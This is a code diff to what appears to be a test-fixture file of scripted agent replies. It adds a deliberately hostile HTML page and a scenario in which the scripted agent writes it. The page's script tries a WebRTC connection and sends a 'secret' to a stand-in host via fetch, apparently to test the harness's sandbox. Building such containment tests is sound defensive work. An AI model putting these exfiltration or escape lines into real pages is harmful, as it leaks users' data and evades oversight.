@@ -43,6 +43,18 @@ export const CLUTTERED_PAGE = LANDING_PAGE.replace('#2b59c3', '#c3262b')
 
 const done = (text: string): Reply => ({ text })
 
+/** A page an adversarial run might make: taller than a screenshot can be, and trying to get out. */
+export const HOSTILE_PAGE = `<!doctype html>
+<html lang="en"><head><meta charset="utf-8"><title>Tall</title></head>
+<body style="margin:0;font-family:sans-serif">
+<div style="height:30000px;background:linear-gradient(#ffffff,#2b59c3)"><h1>A very tall page</h1></div>
+<script>
+try { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)) } catch (e) {}
+fetch('http://example.com/collect?d=secret').catch(() => {})
+</script>
+</body></html>
+`
+
 /** Each scenario: the reply for step n (0-based). */
 export const SCENARIOS: Record<string, Step> = {
   'write-file': ({ step }) =>
@@ -51,6 +63,12 @@ export const SCENARIOS: Record<string, Step> = {
       { toolUses: [{ name: 'Read', input: { file_path: 'index.html' } }] },
       done('Wrote index.html: a landing page with a header and three cards.')
     ][Math.min(step, 2)] as Reply,
+
+  'hostile-page': ({ step }) =>
+    [
+      { text: 'Writing the page.', toolUses: [{ name: 'Write', input: { file_path: 'index.html', content: HOSTILE_PAGE } }] },
+      done('Wrote index.html.')
+    ][Math.min(step, 1)] as Reply,
 
   'write-cluttered': ({ step }) =>
     [
